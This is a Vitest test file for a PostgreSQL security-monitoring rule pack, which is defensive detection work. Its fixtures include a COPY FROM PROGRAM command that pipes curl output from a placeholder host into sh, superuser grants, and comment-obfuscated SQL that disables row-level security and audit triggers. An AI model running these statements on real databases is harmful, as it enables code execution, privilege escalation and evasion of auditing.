import { describe, expect, it } from 'vitest';
import type { MonitorEvent } from '../../../src/monitor/event.js';
import { eventFactory, feed, firedRules, fires, packEngine, sec, t0 } from './engine-helpers.js';

type Spec = Partial<MonitorEvent> & { type: string };

/** Runs one event through a fresh engine with the whole pack; returns the rules that fired. */
async function firedBy(spec: Spec): Promise<string[]> {
  const ev = eventFactory();
  return firedRules(feed(await packEngine(), [ev({ time: t0, user: 'mallory', ...spec })]));
}

const statement = (text: string): Spec => ({
  type: 'pg.statement',
  source: 'server-log',
  severity: 'info',
  statement: text,
});

describe('privilege escalation rules [M-07]', () => {
  const escalations: [string, Spec][] = [
    ['ALTER ROLE … SUPERUSER', statement('ALTER ROLE mallory SUPERUSER')],
    ['ALTER ROLE … BYPASSRLS', statement('alter role mallory with login bypassrls')],
    ['CREATE ROLE … CREATEROLE', statement('CREATE ROLE helper LOGIN CREATEROLE')],
    ['GRANT pg_read_server_files', statement('GRANT pg_read_server_files TO mallory')],
    ['GRANT of two predefined roles', statement('grant pg_write_server_files, "pg_execute_server_program" to mallory')],
    ['GRANT pg_read_all_data', statement('GRANT pg_read_all_data TO mallory')],
    ['GRANT pg_signal_backend', statement('GRANT pg_signal_backend TO mallory')],
    ['GRANT of an owner role', statement('GRANT pgw_owner TO mallory')],
    ['GRANT … WITH ADMIN OPTION', statement('GRANT reporting TO mallory WITH ADMIN OPTION')],
    [
      'a pgaudit ROLE line',
      { type: 'pg.audit', statement: 'ALTER ROLE mallory BYPASSRLS', fields: { class: 'ROLE', command: 'ALTER ROLE' } },
    ],
    ['a record the classifier marked', { type: 'pg.log', fields: { category: 'privilege_change' } }],
  ];
  for (const [name, spec] of escalations) {
    it(`raises exactly one privilege-escalation alert for ${name} [M-07]`, async () => {
      expect(await firedBy(spec)).toEqual(['pg-privilege-escalation']);
    });
  }

  const single: [string, Spec, string][] = [
    ['ddl.security_definer', { type: 'ddl.security_definer', severity: 'warning' }, 'pg-security-definer-created'],
    [
      'CREATE FUNCTION … SECURITY DEFINER in the log',
      statement("create or replace function app.f() returns int language sql security definer as 'select 1'"),
      'pg-security-definer-created',
    ],
    ['ddl.rls switching RLS off', { type: 'ddl.rls', severity: 'warning' }, 'pg-rls-disabled'],
    [
      'ALTER TABLE … DISABLE ROW LEVEL SECURITY',
      statement('ALTER TABLE app.invoices DISABLE ROW LEVEL SECURITY'),
      'pg-rls-disabled',
    ],
    [
      'ALTER TABLE … NO FORCE ROW LEVEL SECURITY',
      statement('alter table app.invoices no force row level security'),
      'pg-rls-disabled',
    ],
    ['ddl.policy drop', { type: 'ddl.policy', severity: 'warning', fields: { action: 'drop' } }, 'pg-policy-dropped'],
    ['DROP POLICY', statement('DROP POLICY tenant_isolation ON app.invoices'), 'pg-policy-dropped'],
    [
      'ddl.default_privileges',
      { type: 'ddl.default_privileges', severity: 'warning' },
      'pg-default-privileges-changed',
    ],
    [
      'ALTER DEFAULT PRIVILEGES',
      statement('ALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT SELECT ON TABLES TO mallory'),
      'pg-default-privileges-changed',
    ],
    ['COPY … FROM PROGRAM', statement("COPY t FROM PROGRAM 'curl http://203.0.113.1/x | sh'"), 'pg-copy-program'],
    ['copy_program category', { type: 'pg.error', fields: { category: 'copy_program' } }, 'pg-copy-program'],
    [
      'an application user granting themselves a role',
      { type: 'rbac.role_granted', fields: { role: 'editor', subject: 'mallory' } },
      'pg-app-role-self-grant',
    ],
  ];
  for (const [name, spec, rule] of single) {
    it(`raises exactly one ${rule} alert for ${name} [M-07]`, async () => {
      expect(await firedBy(spec)).toEqual([rule]);
    });
  }

  it('raises pg-app-admin-role-granted for an admin role granted by someone else once switched on, and nothing by default', async () => {
    const ev = eventFactory();
    const grant = ev({
      time: t0,
      user: 'mallory',
      type: 'rbac.role_granted',
      fields: { role: 'tenant_admin', subject: 'bob' },
    });
    expect(firedRules(feed(await packEngine(), [grant]))).toEqual([]);
    const on = await packEngine({ overrides: { 'pg-app-admin-role-granted': { enabled: true } } });
    expect(firedRules(feed(on, [grant]))).toEqual(['pg-app-admin-role-granted']);
  });

  const benign: [string, Spec][] = [
    ['ALTER ROLE … NOSUPERUSER NOBYPASSRLS', statement('ALTER ROLE mallory NOSUPERUSER NOBYPASSRLS NOCREATEROLE')],
    ['a role named like an attribute', statement('ALTER ROLE superuser_reports LOGIN')],
    ['GRANT SELECT on a table', statement('GRANT SELECT ON app.invoices TO reporting')],
    ['GRANT of an ordinary role', statement('GRANT reporting TO mallory')],
    [
      'a SECURITY INVOKER function',
      statement("create function app.g() returns int language sql security invoker as 'select 1'"),
    ],
    ['RLS switched on', { type: 'ddl.rls', severity: 'notice' }],
    ['ENABLE ROW LEVEL SECURITY', statement('ALTER TABLE app.invoices ENABLE ROW LEVEL SECURITY')],
    ['a policy created', { type: 'ddl.policy', fields: { action: 'create' } }],
    ['an ordinary grant event', { type: 'ddl.grant', fields: { query: 'GRANT SELECT ON app.t TO reporting' } }],
    ['an ordinary role granted by an admin', { type: 'rbac.role_granted', fields: { role: 'editor', subject: 'bob' } }],
    ['COPY … TO STDOUT', statement('COPY app.invoices TO STDOUT')],
  ];
  for (const [name, spec] of benign) {
    it(`raises nothing for ${name} [M-07]`, async () => {
      expect(await firedBy(spec)).toEqual([]);
    });
  }

  // Comments the server reads as a space: each statement below changes what the plain one does.
  const commented: [string, string, string][] = [
    [
      'ALTER TABLE … DISABLE/*x*/ROW LEVEL SECURITY',
      'alter table t2 disable/*x*/row level security',
      'pg-rls-disabled',
    ],
    ['DROP/*x*/POLICY', 'drop/*x*/policy p on t2', 'pg-policy-dropped'],
    [
      'CREATE FUNCTION … SECURITY/*x*/DEFINER',
      "create function sd() returns int language sql security/*x*/definer as 'select 1'",
      'pg-security-definer-created',
    ],
    ['DROP/* nested /* */ */POLICY', 'drop/* a /* b */ c */policy p on t2', 'pg-policy-dropped'],
    [
      'ALTER TABLE … DISABLE -- …⏎ ROW LEVEL SECURITY',
      'alter table t2 disable -- x\nrow level security',
      'pg-rls-disabled',
    ],
    [
      'ALTER/*x*/DEFAULT/*x*/PRIVILEGES',
      'alter/*x*/default/*x*/privileges grant select on tables to public',
      'pg-default-privileges-changed',
    ],
    ['COPY … TO/*x*/PROGRAM', "copy t to/*x*/program 'id'", 'pg-copy-program'],
    ['ALTER/*x*/ROLE … SUPERUSER', 'alter/*x*/role mallory/*x*/superuser', 'pg-privilege-escalation'],
    [
      'ALTER TABLE … in a DO body, behind a comment',
      'do $$ begin alter table t2 disable/*x*/row level security; end $$',
      'pg-rls-disabled',
    ],
  ];
  for (const [name, text, rule] of commented) {
    it(`raises a ${rule} alert for ${name} [M-07]`, async () => {
      expect(await firedBy(statement(text))).toEqual([rule]);
    });
  }

  it('raises a privilege-escalation alert for EXECUTE of a visible ALTER ROLE … SUPERUSER in a DO block [M-07]', async () => {
    // Built at run time ('alter role ' || r || …) the statement never shows in the log; the role
    // catalog poll (pg.role_changed) reports the change itself.
    expect(await firedBy(statement("DO $$ begin execute 'alter role victim superuser'; end $$"))).toEqual([
      'pg-privilege-escalation',
    ]);
    expect(await firedBy({ type: 'pg.role_changed', source: 'stats', fields: { attribute: 'superuser' } })).toEqual([
      'pg-role-privilege-changed',
    ]);
  });

  it('raises nothing for the same words inside a string literal or a comment [M-07]', async () => {
    expect(await firedBy(statement("insert into notes values ('drop/*x*/policy p on t2')"))).toEqual([]);
    expect(await firedBy(statement('select 1 /* drop policy p on t2 */'))).toEqual([]);
  });

  it('merges one change seen by both the event trigger and the server log into one incident [M-07]', async () => {
    const ev = eventFactory();
    const events = [
      ev({ type: 'ddl.security_definer', time: t0, user: 'mallory', severity: 'warning' }),
      ev({
        ...statement('CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS $$select 1$$'),
        time: t0 + sec,
        user: 'mallory',
      }),
    ];
    const signals = feed(await packEngine(), events);
    expect(firedRules(signals)).toEqual(['pg-security-definer-created']);
    const updates = signals.filter((s) => s.kind === 'update');
    expect(updates.map((s) => [s.dedupeKey, s.eventCount, s.eventIds])).toEqual([
      ['pg-security-definer-created|user=mallory', 1, [events[1]?.id]],
    ]);
  });
});

describe('audit tampering rules', () => {
  const cases: [string, Spec, string][] = [
    ['an audit trigger disabled', { type: 'ddl.trigger_disabled', severity: 'critical' }, 'pg-audit-trigger-tampering'],
    ['an audit trigger dropped', { type: 'ddl.trigger_dropped', severity: 'critical' }, 'pg-audit-trigger-tampering'],
    ['an audit trigger replaced', { type: 'ddl.trigger_replaced', severity: 'critical' }, 'pg-audit-trigger-tampering'],
    ['DISABLE TRIGGER ALL', statement('ALTER TABLE app.invoices DISABLE TRIGGER ALL'), 'pg-audit-trigger-tampering'],
    [
      'session_replication_role = replica',
      statement("SET session_replication_role = 'replica'"),
      'pg-audit-trigger-tampering',
    ],
    [
      'a record marked audit_tampering',
      { type: 'pg.statement', fields: { category: 'audit_tampering' } },
      'pg-audit-trigger-tampering',
    ],
    [
      'log_statement changed on reload',
      { type: 'pg.config_changed', message: 'parameter "log_statement" changed to "none"' },
      'pg-audit-logging-changed',
    ],
    ['ALTER SYSTEM SET pgaudit.log', statement("ALTER SYSTEM SET pgaudit.log = 'none'"), 'pg-audit-logging-changed'],
    [
      'ALTER DATABASE … SET log_statement',
      statement("alter database app set log_statement = 'none'"),
      'pg-audit-logging-changed',
    ],
    ['the ledger failing to verify', { type: 'ledger.tamper_detected', severity: 'critical' }, 'pg-ledger-tampered'],
    ['a WAL capture gap', { type: 'audit.wal_gap', severity: 'error' }, 'pg-audit-gap'],
    ['DDL on pgwarden objects', { type: 'ddl.protected_object', severity: 'critical' }, 'pg-protected-object-ddl'],
  ];
  for (const [name, spec, rule] of cases) {
    it(`raises exactly one ${rule} alert for ${name}`, async () => {
      expect(await firedBy(spec)).toEqual([rule]);
    });
  }

  const benign: [string, Spec][] = [
    ['an ordinary trigger disabled', { type: 'ddl.trigger_disabled', severity: 'warning' }],
    ['DISABLE TRIGGER of an application trigger', statement('ALTER TABLE app.t DISABLE TRIGGER set_updated_at')],
    ['another setting changed', { type: 'pg.config_changed', message: 'parameter "work_mem" changed to "64MB"' }],
    ['SET search_path', statement('SET search_path = app, public')],
  ];
  for (const [name, spec] of benign) {
    it(`raises nothing for ${name}`, async () => {
      expect(await firedBy(spec)).toEqual([]);
    });
  }

  it('raises pg-audit-trigger-tampering for DISABLE/*x*/TRIGGER/*x*/ALL hidden by comments', async () => {
    expect(await firedBy(statement('alter table app.invoices disable/*x*/trigger/*x*/all'))).toEqual([
      'pg-audit-trigger-tampering',
    ]);
  });

  it('raises one critical pg-log-injection alert per address for forged server-log lines [M-01]', async () => {
    const ev = eventFactory();
    const forged = (i: number, addr: string | undefined, reason: string) =>
      ev({
        type: 'pg.log_injection',
        source: 'server-log',
        time: t0 + i * sec,
        severity: 'critical',
        ...(addr ? { addr } : {}),
        fields: { reason, sessionId: `6b03eb80.${i}` },
      });
    const events = [
      forged(0, '127.0.0.1', 'line_break_in_name'),
      forged(1, '127.0.0.1', 'line_break_in_name'),
      forged(2, '203.0.113.7', 'repeated_session_marker'),
    ];
    const signals = feed(await packEngine(), events);
    expect(fires(signals).map((s) => [s.rule.id, s.rule.severity, s.summary])).toEqual([
      ['pg-log-injection', 'critical', 'forged server-log lines from 127.0.0.1'],
      ['pg-log-injection', 'critical', 'forged server-log lines from 203.0.113.7'],
    ]);
    expect(fires(signals)[0]?.details).toMatchObject({ fields: { 'fields.reason': 'line_break_in_name' } });
  });

  it('puts a log-setting change into one alert of the logging rule, not the trigger rule', async () => {
    const fired = await firedBy({
      ...statement("ALTER SYSTEM SET pgaudit.log = 'none'"),
      fields: { category: 'logging_change' },
    });
    expect(fired).toEqual(['pg-audit-logging-changed']);
  });

  it('puts disabled audit triggers into one alert of the trigger rule', async () => {
    const fired = await firedBy({
      ...statement('ALTER TABLE audit.row_changes DISABLE TRIGGER ALL'),
      fields: { category: 'audit_tampering' },
    });
    expect(fired).toEqual(['pg-audit-trigger-tampering']);
  });

  it('never puts the statement, nor a password in it, into the alert [M-12]', async () => {
    const ev = eventFactory();
    const events = [
      ev({ ...statement("ALTER ROLE mallory SUPERUSER PASSWORD 'hunter2-secret'"), time: t0, user: 'mallory' }),
      ev({
        type: 'ddl.grant',
        time: t0,
        user: 'mallory',
        fields: { query: "GRANT pg_read_all_data TO x; -- password 'hunter2-secret'", command_tag: 'GRANT' },
      }),
    ];
    const signals = feed(await packEngine(), events);
    expect(fires(signals)).toHaveLength(1);
    expect(JSON.stringify(signals)).not.toContain('hunter2');
    expect(JSON.stringify(signals)).not.toContain('PASSWORD');
  });
});
